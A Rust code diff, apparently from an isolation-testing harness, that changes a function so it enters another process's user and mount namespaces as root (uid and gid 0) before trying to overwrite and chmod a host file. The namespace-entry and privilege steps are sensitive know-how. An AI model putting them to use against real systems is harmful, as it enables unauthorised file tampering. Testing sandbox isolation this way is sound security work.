@@ -14,6 +14,7 @@ use common::sys::attack::handle::{self, Handle};
 use nix::errno::Errno;
 use nix::mount::{MsFlags, mount};
 use nix::sched::{CloneFlags, setns, unshare};
+use nix::unistd::{Gid, Uid, setgroups, setresgid, setresuid};
 
 /// To open the file at a path for writing, and to change its mode, from within the namespaces of a process of
 /// the host. That process's id follows. Prints `file=DEVICE:INODE write=OUTCOME chmod=OUTCOME`.
@@ -65,8 +66,8 @@ fn overwrite(path: &Path, process: &str) -> io::Result<String> {
     Ok(format!("file={}:{} write={write} chmod={chmod}", there.dev(), there.ino()))
 }
 
-/// Enters the user and the mount namespace of a process: whoever is in them can do what this one can, or
-/// less.
+/// Enters the user and the mount namespace of a process, as the root of that user namespace: whoever is in
+/// them can do what this one can, or less. As the host's root it could do more, which is owner of its files.
 fn join(process: &str) -> io::Result<()> {
     let open = |kind: &str| File::open(format!("/proc/{process}/ns/{kind}"));
     let (user, mount) = (open("user")?, open("mnt")?);
@@ -74,6 +75,11 @@ fn join(process: &str) -> io::Result<()> {
     // The kernel refuses to enter the user namespace in which one is.
     if own.ino() != user.metadata()?.ino() {
         setns(user, CloneFlags::CLONE_NEWUSER)?;
+        // Where an ordinary user's namespace forbids this call, the groups stay: that is no less.
+        let _ = setgroups(&[]);
+        let (group, user) = (Gid::from_raw(0), Uid::from_raw(0));
+        setresgid(group, group, group)?;
+        setresuid(user, user, user)?;
     }
     Ok(setns(mount, CloneFlags::CLONE_NEWNS)?)
 }
